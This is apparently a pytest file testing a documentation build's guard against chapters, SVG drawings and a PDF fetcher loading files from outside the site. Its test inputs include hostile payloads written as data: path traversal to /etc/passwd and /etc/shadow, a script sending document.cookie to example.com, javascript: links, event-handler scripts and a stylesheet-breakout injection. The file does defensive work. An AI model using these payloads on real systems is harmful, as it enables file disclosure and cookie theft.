"""The sealed boundary: a chapter naming an address outside the manual fails the site's build and the print
edition's, one line each naming the chapter and the address; WeasyPrint's URL fetcher reads only regular files
inside the built site."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from build_tools import cli
from build_tools.checking.blocks import read_blocks
from build_tools.core._exceptions import EXIT_BAD_INPUT, ChapterError, PrintEditionError
from build_tools.website import boundary, pdf
from tests.conftest import ROOT, SAMPLES, copy_project

OUTSIDE = SAMPLES / "chapters" / "outside"
CHAPTER = OUTSIDE / "docs" / "01-outside.md"
OUT_OF_DOCS = "../../../../../../../../../../etc/passwd"
SITE_TAIL = "a page names only the manual's own pages and figures, and web pages to click"
WEB_TAIL = "a file of another host: the site loads nothing from outside (a link to it is fine)"
PRINT_TAIL = "the print edition reads only the files of the built site"
ELEMENT_TAIL = ("which a page of the manual does not need: a page holds text, tables, code, figures and links "
                "(build_tools/website/allowlist.py lists what it may hold)")
CSS_TAIL = "an address in CSS: the manual's CSS names no file, only a #fragment of its own page or drawing"

SITE_LINES = [
    "12 problems in the chapters:",
    f"  docs/01-outside.md:7: embeds 'file:///etc/passwd', a file:// address: {SITE_TAIL}",
    f"  docs/01-outside.md:9: embeds 'file:///etc/passwd', a file:// address: {SITE_TAIL}",
    f"  docs/01-outside.md:11: embeds '/etc/passwd', an absolute path: {SITE_TAIL}",
    f"  docs/01-outside.md:13: embeds '{OUT_OF_DOCS}', a path out of docs/: {SITE_TAIL}",
    f"  docs/01-outside.md:15: embeds 'http://example.com/x.png', {WEB_TAIL}",
    f"  docs/01-outside.md:17: uses <link>, {ELEMENT_TAIL}",
    f"  docs/01-outside.md:19: gives <span> a style with 'url(file:///etc/passwd)', {CSS_TAIL}",
    f"  docs/01-outside.md:21: embeds 'https://example.com/big.png', {WEB_TAIL}",
    f"  docs/01-outside.md:23: uses <object>, {ELEMENT_TAIL}",
    f"  docs/01-outside.md:25: uses <iframe>, {ELEMENT_TAIL}",
    f"  docs/01-outside.md:27: links to 'file:///etc/passwd', a file:// address: {SITE_TAIL}",
    "  docs/01-outside.md:35: runs a script (<script...): a page of the manual runs no script of its own, since what "
    "a script loads cannot be checked",
]


# --- the site: the chapters' own check --------------------------------------------------------------------------


@pytest.mark.parametrize("with_config", [True, False], ids=["mkdocs.yml", "no mkdocs.yml"])
def test_a_chapter_naming_outside_addresses_fails_one_line_each(tmp_path, with_config):
    shutil.copytree(OUTSIDE / "docs", tmp_path / "docs")
    if with_config:  # the project's Markdown extensions; without it, the fallback ones
        shutil.copy2(ROOT / "mkdocs.yml", tmp_path / "mkdocs.yml")
    with pytest.raises(ChapterError) as caught:
        read_blocks(tmp_path / "docs", SAMPLES / "chapters" / "figures")
    assert str(caught.value).splitlines() == SITE_LINES
    assert caught.value.exit_code == EXIT_BAD_INPUT


@pytest.mark.parametrize(("markdown", "message"), [
    ('<a href="https://example.com">a web page</a> [x](02-b.md#part) ![f](figures/f.svg) [m](mailto:a@b.c)', None),
    ("[x](file:///etc/passwd)", "links to 'file:///etc/passwd', a file:// address"),
    ("[x](FILE:///etc/passwd)", "links to 'FILE:///etc/passwd', a file:// address"),
    ("[x](../README.md)", "links to '../README.md', a path out of docs/"),
    ("[x](%2e%2e/%2e%2e/etc/passwd)", "links to '%2e%2e/%2e%2e/etc/passwd', a path out of docs/"),
    ("[x](javascript:alert(1))", "links to 'javascript:alert(1)', a javascript: address"),
    ('<img src="&#102;ile:///etc/passwd">', "embeds 'file:///etc/passwd', a file:// address"),
    ('<img src="data:image/png;base64,AA==">', "embeds 'data:image/png;base64,AA==', a data: address"),
    ("![x][pic]\n\n[pic]: http://example.com/p.png", "embeds 'http://example.com/p.png', a file of another host"),
    ('![ok](figures/f.svg){ src="file:///etc/shadow" }', "embeds 'file:///etc/shadow', a file:// address"),
    ("<style>p { background: \\75 rl(http://example.com/x.png) }</style>", "uses <style>, which a page"),
    ('<p style="color: red; background: \\75 rl(http://example.com/x.png)">x</p>',
     "gives <p> a style with 'url(http://example.com/x.png)', an address in CSS"),
    ('<iframe srcdoc="<img src=\'file:///etc/passwd\'>"></iframe>', "uses <iframe>, which a page"),
    ('<meta http-equiv="refresh" content="0; url=https://example.com/">', "uses <meta>, which a page"),
    ("`<img src=\"file:///etc/passwd\">` and\n\n    <img src=\"file:///etc/passwd\">", None),  # code is shown
    ("[x](http://[oops/x)", "links to 'http://[oops/x', not an address a browser reads"),
    # Read as a browser reads HTML: a comment `<!-->` ends at once, `<![CDATA[` outside SVG at the first `>`.
    ('<!--> <img src="http://example.com/a.png"> -->', "embeds 'http://example.com/a.png', a file of another host"),
    ('<p><![CDATA[ x > <img src="http://example.com/b.png"> ]]></p>',
     "embeds 'http://example.com/b.png', a file of another host"),
    ('<svg><image xlink:href="file:///etc/passwd"/></svg>', "embeds 'file:///etc/passwd', a file:// address"),
])
def test_each_kind_of_address(markdown, message):
    render = boundary.markdown_renderer(ROOT / "mkdocs.yml")
    problems = [problem for problem in boundary.chapter_problems("docs/01-x.md", f"# X\n\n{markdown}\n", render)
                if not problem.message.startswith("runs a script")]  # a <script> is refused too (the next test)
    assert len(problems) == (message is not None)
    if message is not None:
        line = 5 if "[pic]:" in markdown else 3
        assert str(problems[0]).startswith(f"docs/01-x.md:{line}: {message}"), problems[0]


SCRIPT = "a page of the manual runs no script of its own, since what a script loads cannot be checked"


@pytest.mark.parametrize(("markdown", "expected"), [
    ('<script>fetch("https://example.com/?" + document.cookie)</script>', ["3: runs a script (<script...)"]),
    ('<SCRIPT type="module">import("https://example.com/x.js")</SCRIPT>', ["3: runs a script (<script...)"]),
    ('<svg><script href="https://example.com/x.js"/></svg>', ["3: runs a script (<script...)"]),
    ('<script src="figures/local.js"></script>', ["3: runs a script (<script...)"]),
    ('<img src="figures/f.svg" onerror="fetch(\'https://example.com\')">', ["3: runs a script (onerror=...)"]),
    ('Text\n\n<svg onload = "x()"><circle/></svg>\n\n<p onclick="y()">z</p>',
     ["5: runs a script (onload=...)", "7: runs a script (onclick=...)"]),
    ('![f](figures/f.svg){ onmouseover="x()" }', ["3: runs a script (onmouseover=...)"]),
    ("`<script>x()</script>` and\n\n    <script>y()</script>\n\nThe word onload=, said in text.", []),  # shown
])
def test_a_chapter_that_runs_a_script_fails_one_line_each(markdown, expected):
    render = boundary.markdown_renderer(ROOT / "mkdocs.yml")
    problems = boundary.chapter_problems("docs/01-x.md", f"# X\n\n{markdown}\n", render)
    assert [f"{problem.line}: {problem.message.split(':')[0]}" for problem in problems] == expected
    assert all(str(problem).endswith(f": {SCRIPT}") for problem in problems)


def test_the_project_chapters_name_nothing_outside():
    render = boundary.markdown_renderer(ROOT / "mkdocs.yml")
    for chapter in sorted((ROOT / "docs").glob("*.md")):
        assert boundary.chapter_problems(chapter.name, chapter.read_text(encoding="utf-8"), render) == []


# --- the allowlist: what a page and a drawing may hold ---------------------------------------------------------

HOSTILE = SAMPLES / "boundary"


@pytest.mark.parametrize("case", sorted(path.name for path in HOSTILE.iterdir() if path.is_dir()))
def test_each_hostile_chapter_or_drawing_fails_with_its_lines(tmp_path, case):
    """tests/samples/boundary/<case>: a chapter (and an SVG file of docs/) with one construct the allowlist does
    not hold; the build stops with exactly expected.txt, each line naming the file and line (exit 2)."""
    shutil.copytree(HOSTILE / case / "docs", tmp_path / "docs")
    shutil.copy2(ROOT / "mkdocs.yml", tmp_path / "mkdocs.yml")
    with pytest.raises(ChapterError) as caught:
        read_blocks(tmp_path / "docs", SAMPLES / "chapters" / "figures")
    assert str(caught.value) + "\n" == (HOSTILE / case / "expected.txt").read_text(encoding="utf-8")
    assert caught.value.exit_code == EXIT_BAD_INPUT


def test_a_hostile_chapter_stops_the_build_in_one_line_each_without_a_traceback(tmp_path, monkeypatch, capsys):
    """The tester's case through the command line: an <object> showing an SVG of docs/ that loads a remote image.
    `manual check` refuses both, names the files and lines, exits 2, and writes no site (nothing was fetched)."""
    root = copy_project(tmp_path / "manual")
    monkeypatch.chdir(root)
    shutil.copy2(HOSTILE / "object-svg" / "docs" / "drawing.svg", root / "docs" / "drawing.svg")
    chapter = root / "docs" / "01-step.md"
    text = chapter.read_text(encoding="utf-8")
    chapter.write_text(text + '\n<object data="drawing.svg" type="image/svg+xml"></object>\n', encoding="utf-8")
    line = len(text.splitlines()) + 2
    assert cli.main(["check"]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert "Traceback" not in err and not (root / "site").exists()
    assert f"docs/01-step.md:{line}: uses <object>, {ELEMENT_TAIL}" in err
    assert f"docs/drawing.svg:2: embeds 'https://example.com/x.png', {WEB_TAIL}" in err


@pytest.mark.parametrize(("markdown", "message"), [
    # What the allowlist must let through: what the chapters and the build write.
    ("| a | b |\n|:--|--:|\n| 1 | 2 |", None),  # aligned columns: style="text-align: left;"
    ('<svg viewBox="0 0 9 9"><defs><clipPath id="c"><rect width="9" height="9"/></clipPath></defs>'
     '<g clip-path="url(#c)"><use xlink:href="#c"/><path d="M 0 0 L 9 9" style="stroke: #262626"/></g></svg>', None),
    ('<svg><a href="https://example.com/"><text y="9">a link in a drawing</text></a></svg>', None),
    ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
     '<g transform="translate(1 2) rotate(3)" font-family="DejaVu Sans, sans-serif"><text xml:space="preserve">x'
     "</text></g></svg>", None),
    ('<p style="color: var(--role-trainer); background: rgb(1, 2, 3)">x</p>', None),
    # What it refuses however it is written.
    ('<SVG><SET attributeName="href" to="https://example.com/x.png"/></SVG>', "uses <set> in an SVG drawing"),
    ("<svg><discard/></svg>", "uses <discard> in an SVG drawing"),
    ('<svg><feImage href="https://example.com/x.png"/></svg>', "uses <feImage> in an SVG drawing"),
    ('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
     "links to 'javascript:alert(1)', a javascript: address"),
    ('<svg><rect cursor="url(https://example.com/c.cur), auto"/></svg>',
     "gives <rect> in an SVG drawing the attribute cursor="),
    ('<svg><image xml:base="https://example.com/" href="x.png"/></svg>',
     "gives <image> in an SVG drawing the attribute xml:base="),
    ("<math></math>", "uses <math>, which a page"),
    ('<p style="background: url(\'#frag\') , url(https://example.com/x.png)">x</p>',
     "gives <p> a style with 'url(https://example.com/x.png)'"),
    ('<p style="@import \'https://example.com/x.css\';">x</p>', "gives <p> a style with '@import'"),
    ('<img src="figures/f.svg" srcdoc="x" alt="x">', "gives <img> the attribute srcdoc="),
    ('<a href="#x" target="_blank">x</a>', "gives <a> the attribute target="),
    ('<input type="image" src="https://example.com/x.png">', "uses <input>, which a page"),
    ('<video poster="figures/p.png"></video>', "uses <video>, which a page"),
    ("<template><p>x</p></template>", "uses <template>, which a page"),
])
def test_the_allowlist_of_a_page(markdown, message):
    render = boundary.markdown_renderer(ROOT / "mkdocs.yml")
    problems = boundary.chapter_problems("docs/01-x.md", f"# X\n\n{markdown}\n", render)
    assert [str(problem).startswith(f"docs/01-x.md:3: {message}") for problem in problems] == \
        ([] if message is None else [True]), problems


def test_every_drawing_and_page_the_build_writes_is_within_the_allowlist(tmp_path):
    """The allowlist is not too tight: each figure matplotlib draws for the manual (every variant the site
    serves) passes it, as an SVG file of docs/ would, and so does the article of every page of the site."""
    from build_tools import build

    site = tmp_path / "manual" / "site"
    build.build(copy_project(tmp_path / "manual"))
    drawings = sorted((site / "figures").glob("*.svg"))
    assert len(drawings) >= 4 * len(read_blocks(ROOT / "docs", ROOT / "figures"))  # light, dark, phone, phone dark
    assert [problem for drawing in drawings
            for problem in boundary.svg_file_problems(drawing.name, drawing.read_bytes(), "figures")] == []
    # And every page the build writes (figure blocks, tables, the index's swatches) is within the HTML allowlist.
    articles = [pdf._ARTICLE.search(page.read_text(encoding="utf-8")) for page in sorted(site.glob("*.html"))]
    assert len([article for article in articles if article]) >= 10
    assert [found for article in articles if article
            for found in boundary.page_refusals(article.group(1)) if found.message] == []


@pytest.mark.parametrize(("drawing", "expected"), [
    (b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>', []),
    (b'<svg><rect/></svg>', ['docs/x.svg:1: uses <svg> of no namespace: an SVG drawing of the manual is SVG '
                             '(xmlns="http://www.w3.org/2000/svg") and holds no other markup']),
    (b'<svg xmlns="http://www.w3.org/2000/svg">\n<g xmlns="http://www.w3.org/1999/xhtml"><p/></g></svg>',
     ["docs/x.svg:2: uses <g> of the namespace http://www.w3.org/1999/xhtml: an SVG drawing of the manual is SVG "
      '(xmlns="http://www.w3.org/2000/svg") and holds no other markup',
      "docs/x.svg:2: uses <p> of the namespace http://www.w3.org/1999/xhtml: an SVG drawing of the manual is SVG "
      '(xmlns="http://www.w3.org/2000/svg") and holds no other markup']),
    (b'<svg xmlns="http://www.w3.org/2000/svg">\n<rect>\n</svg>',
     ["docs/x.svg:3: not an SVG file a browser reads: mismatched tag"]),
    (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:e="http://www.w3.org/1999/xlink">\n'
     b'<image e:href="../../etc/x.png"/>\n<a e:href="https://example.com/"><text>x</text></a>\n'
     b'<rect onclick="x()"/></svg>',
     ["docs/x.svg:2: embeds '../../etc/x.png', a path out of docs/: " + SITE_TAIL,
      "docs/x.svg:4: runs a script (onclick=...): a page of the manual runs no script of its own, since what a "
      "script loads cannot be checked"]),
])
def test_an_svg_file_is_read_as_the_xml_it_is(drawing, expected):
    assert [str(problem) for problem in boundary.svg_file_problems("docs/x.svg", drawing, "")] == expected


# --- the print edition ------------------------------------------------------------------------------------------


def _small_site(root: Path, chapter: Path = CHAPTER) -> Path:
    """A project with one chapter, built as the site stage builds it (its Markdown rendered with mkdocs.yml's
    extensions into the article of site/<page>.html), ready for write_pdf; returns the site."""
    (root / "docs").mkdir(parents=True)
    shutil.copy2(chapter, root / "docs" / chapter.name)
    pages, site = root / "build" / "docs", root / "site"
    pages.mkdir(parents=True)
    (pages / ".manual.yml").write_text(
        f"nav:\n- 1. Outside: {chapter.name}\ncopyright: Edition 2026.10\n"
        "extra:\n  edition: '2026.10'\n  provenance_note: Built from no runs.\n", encoding="utf-8")
    (site / "figures").mkdir(parents=True)
    (site / "assets").mkdir()
    (site / "assets" / "palette.css").write_text(":root { --manual-trainer: #123456; }\n", encoding="utf-8")
    (site / "figures" / "fig-demo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>\n',
        encoding="utf-8")
    (site / "index.html").write_text('<title>Home - A small manual</title><meta name="description" content="A test.">',
                                     encoding="utf-8")
    article = boundary.markdown_renderer(ROOT / "mkdocs.yml")(chapter.read_text(encoding="utf-8"))
    (site / chapter.with_suffix(".html").name).write_text(
        f'<html><body><article class="md-content__inner md-typeset">{article}</article></body></html>',
        encoding="utf-8")
    return site


PRINT_LINES = [
    "10 problems in the print edition:",
    f"  docs/01-outside.md:7: names 'file:///etc/passwd', outside the built site: {PRINT_TAIL}",
    f"  docs/01-outside.md:9: names 'file:///etc/passwd', outside the built site: {PRINT_TAIL}",
    f"  docs/01-outside.md:11: names '/etc/passwd', outside the built site: {PRINT_TAIL}",
    f"  docs/01-outside.md:13: names '{OUT_OF_DOCS}', outside the built site: {PRINT_TAIL}",
    f"  docs/01-outside.md:15: names 'http://example.com/x.png', a file of another host: {PRINT_TAIL}",
    f"  docs/01-outside.md:17: names 'https://cdn.example.com/x.css', a file of another host: {PRINT_TAIL}",
    f"  docs/01-outside.md:19: names 'file:///etc/passwd', outside the built site: {PRINT_TAIL}",
    f"  docs/01-outside.md:21: names 'https://example.com/big.png', a file of another host: {PRINT_TAIL}",
    f"  docs/01-outside.md:23: names '/etc/passwd', outside the built site: {PRINT_TAIL}",
    f"  docs/01-outside.md:25: names 'http://example.com/frame.html', a file of another host: {PRINT_TAIL}",
]


def test_the_pdf_refuses_every_outside_address_at_once(tmp_path):
    site = _small_site(tmp_path)
    with pytest.raises(PrintEditionError) as caught:
        pdf.write_pdf(tmp_path / "build" / "docs", site)
    # The link to a file (line 27) is refused by the site; the print edition keeps its text, and loads nothing.
    assert str(caught.value).splitlines() == PRINT_LINES
    assert caught.value.exit_code == EXIT_BAD_INPUT
    assert not list(site.glob("*.pdf")) and not list(site.glob(".*.tmp"))  # no PDF, not even half of one


def test_a_pdf_failure_is_one_line_each_without_a_traceback(tmp_path, monkeypatch, capsys):
    site = _small_site(tmp_path)
    monkeypatch.setattr("build_tools.build.build", lambda root, settings=None: None)  # the site is built above
    assert cli.main(["--root", str(tmp_path), "pdf"]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert "ERROR 10 problems in the print edition:" in err and "Traceback" not in err
    assert f"docs/01-outside.md:15: names 'http://example.com/x.png', a file of another host: {PRINT_TAIL}" in err
    assert not list(site.glob("*.pdf"))


def test_what_a_site_stylesheet_or_image_loads_is_read_too(tmp_path):
    chapter = tmp_path / "src" / "01-styled.md"
    chapter.parent.mkdir()
    chapter.write_text('# Styled\n\n<link rel="stylesheet" href="assets/extra.css">\n\n![f](figures/fig-demo.svg)\n',
                       encoding="utf-8")
    site = _small_site(tmp_path / "project", chapter)
    (site / "assets" / "extra.css").write_text('@import "more.css";\n', encoding="utf-8")
    (site / "assets" / "more.css").write_text("p { background: url(../../../etc/passwd) }\n", encoding="utf-8")
    (site / "figures" / "fig-demo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<image xlink:href="http://example.com/x.png" width="1" height="1"/></svg>\n', encoding="utf-8")
    with pytest.raises(PrintEditionError) as caught:
        pdf.write_pdf(tmp_path / "project" / "build" / "docs", site)
    assert str(caught.value).splitlines()[1:] == [
        "  docs/01-styled.md: names '../../../etc/passwd' (from site/assets/more.css), outside the built site: "
        f"{PRINT_TAIL}",
        "  docs/01-styled.md: names 'http://example.com/x.png' (from site/figures/fig-demo.svg), a file of another "
        f"host: {PRINT_TAIL}",
    ]


def test_a_page_with_nothing_outside_prints(tmp_path):
    chapter = tmp_path / "src" / "01-inside.md"
    chapter.parent.mkdir()
    chapter.write_text("# Inside\n\n![f](figures/fig-demo.svg)\n\n[web](https://example.com)\n", encoding="utf-8")
    site = _small_site(tmp_path / "project", chapter)
    target = pdf.write_pdf(tmp_path / "project" / "build" / "docs", site)
    assert target == site / "2026.10.pdf" and target.read_bytes().startswith(b"%PDF")


def test_the_fetcher_is_the_second_guard(tmp_path, monkeypatch):
    """With the scan before WeasyPrint gone, the fetcher still refuses: no traceback, no PDF, one line each."""
    chapter = tmp_path / "src" / "01-leak.md"
    chapter.parent.mkdir()
    chapter.write_text('# Leak\n\n<a rel="attachment" href="file:///etc/passwd">a</a>\n\n'
                       '<img src="http://127.0.0.1:9/x.png">\n', encoding="utf-8")
    site = _small_site(tmp_path / "project", chapter)
    monkeypatch.setattr(boundary, "outside_site", lambda pages, site: [])
    with pytest.raises(PrintEditionError) as caught:
        pdf.write_pdf(tmp_path / "project" / "build" / "docs", site)
    assert sorted(str(caught.value).splitlines()[1:]) == [
        f"  {site}: WeasyPrint asked for 'file:///etc/passwd', outside the built site: {PRINT_TAIL}",
        f"  {site}: WeasyPrint asked for 'http://127.0.0.1:9/x.png', a file of another host: {PRINT_TAIL}",
    ]
    assert not list(site.glob("*.pdf")) and not list(site.glob(".*.tmp"))


# --- the fetcher, called directly -------------------------------------------------------------------------------


@pytest.fixture
def fetched(tmp_path):
    """A site with a page, a link to it, a link out of it and a FIFO; next to it, a secret; and its fetcher."""
    site = tmp_path / "site"
    (site / "figures").mkdir(parents=True)
    (site / "figures" / "a.svg").write_text("<svg/>", encoding="utf-8")
    (tmp_path / "secret.txt").write_text("secret", encoding="utf-8")
    (site / "inside-link.svg").symlink_to(site / "figures" / "a.svg")
    (site / "outside-link.txt").symlink_to(tmp_path / "secret.txt")
    (site / "folder-link").symlink_to(tmp_path)
    os.mkfifo(site / "pipe")
    return site, pdf.site_fetcher(site)


def test_the_fetcher_serves_the_site_files(fetched):
    site, fetcher = fetched
    response = fetcher.fetch((site / "figures" / "a.svg").as_uri())
    assert response.read() == b"<svg/>" and response.content_type == "image/svg+xml"
    assert fetcher.fetch((site / "inside-link.svg").as_uri()).read() == b"<svg/>"  # a link inside the site
    assert fetcher.refused == []


@pytest.mark.parametrize(("url", "reason"), [
    ("file:///etc/passwd", "outside the built site"),
    ("{site}/../secret.txt", "outside the built site"),
    ("{site}/figures/%2e%2e/%2e%2e/secret.txt", "outside the built site"),
    ("{site}/outside-link.txt", "outside the built site"),
    ("{site}/folder-link/secret.txt", "outside the built site"),
    ("{site}/missing.svg", "not a file of the built site"),
    ("{site}/pipe", "not a regular file of the built site"),
    ("{site}/figures", "not a regular file of the built site"),
    ("file://example.com/etc/passwd", "a file of host example.com"),
    ("http://127.0.0.1:9/x.png", "a file of another host"),
    ("https://example.com/x.png", "a file of another host"),
    ("data:text/plain,hello", "a data: address"),
    ("ftp://example.com/x", "a ftp: address"),
    ("http://[oops/x.png", "not an address of the built site"),
])
def test_the_fetcher_refuses_everything_else(fetched, url, reason):
    site, fetcher = fetched
    url = url.replace("{site}", site.as_uri())
    with pytest.raises(boundary.Refused, match=f"^{reason}$"):
        fetcher.fetch(url)
    assert fetcher.refused == [f"{boundary.quoted(url)}, {reason}"]


def test_a_link_in_the_site_to_a_file_outside_is_refused(tmp_path):
    """A relative path the chapter check lets through (it stays in docs/) still cannot reach outside through a
    symbolic link in the built site."""
    chapter = tmp_path / "src" / "01-linked.md"
    chapter.parent.mkdir()
    chapter.write_text('# Linked\n\n<a rel="attachment" href="figures/data.csv">the data</a>\n', encoding="utf-8")
    site = _small_site(tmp_path / "project", chapter)
    (site / "figures" / "data.csv").symlink_to("/etc/passwd")
    with pytest.raises(PrintEditionError) as caught:
        pdf.write_pdf(tmp_path / "project" / "build" / "docs", site)
    assert str(caught.value).splitlines()[1:] == [
        f"  docs/01-linked.md:3: names 'figures/data.csv', outside the built site: {PRINT_TAIL}"]


def test_the_stamp_cannot_end_the_books_stylesheet(tmp_path):
    """The stamp and the provenance note are written into the book's CSS as strings: a `<` or a line break in
    them is escaped, so they cannot close the <style> element and add an element that loads a file."""
    chapter = tmp_path / "src" / "01-inside.md"
    chapter.parent.mkdir()
    chapter.write_text("# Inside\n\nText.\n", encoding="utf-8")
    site = _small_site(tmp_path / "project", chapter)
    settings = tmp_path / "project" / "build" / "docs" / ".manual.yml"
    settings.write_text(settings.read_text(encoding="utf-8").replace(
        "copyright: Edition 2026.10", "copyright: '</style><img src=\"file:///etc/passwd\">\n\n}'"), encoding="utf-8")
    target = pdf.write_pdf(tmp_path / "project" / "build" / "docs", site)
    assert target.read_bytes().startswith(b"%PDF")


@pytest.mark.parametrize("stamp", [
    "Miles radixark/miles:latest, Miles main of 2026-10-15 · 08752a1 · 2026-10-15 · Edition 2026.10",
    "x\r} body { background: url(https://example.com/x.png) } a {",  # \r ends a CSS string unless escaped
    "x\f} @import 'https://example.com/x.css'; a {",
    'a "quote", a \\ backslash, </style><img src="https://example.com/x.png">; {braces}',
])
def test_a_stamp_from_edition_yml_is_one_css_string_whatever_it_holds(stamp):
    """The stamp and the provenance note (edition.yml, the runs) enter the book's stylesheet, after palette.css,
    as CSS strings: read back by WeasyPrint's CSS parser, each is one string equal to the value, and the stylesheet
    has the same rules as with a plain stamp (no `}` or line break in a value ends a rule)."""
    import tinycss2

    def margin_boxes(css):
        rules = tinycss2.parse_stylesheet(css, skip_whitespace=True, skip_comments=True)
        page = next(rule for rule in rules if rule.type == "at-rule" and rule.at_keyword == "page"
                    and not tinycss2.serialize(rule.prelude).strip())
        return {box.at_keyword: box for box in tinycss2.parse_blocks_contents(page.content, skip_whitespace=True)
                if box.type == "at-rule"}

    css = pdf._stylesheet(stamp, stamp)
    plain = pdf._stylesheet("stamp", "note")
    assert [(rule.type, tinycss2.serialize(rule.prelude)) for rule in tinycss2.parse_stylesheet(css, True, True)] == \
        [(rule.type, tinycss2.serialize(rule.prelude)) for rule in tinycss2.parse_stylesheet(plain, True, True)]
    boxes = margin_boxes(css)
    for box in ("top-right", "bottom-left"):
        declarations = tinycss2.parse_blocks_contents(boxes[box].content, skip_whitespace=True)
        content = next(item for item in declarations if item.type == "declaration" and item.name == "content")
        values = [token for token in content.value if token.type != "whitespace"]
        assert [(token.type, token.value) for token in values] == [("string", stamp)]
    assert "</style" not in css.lower()
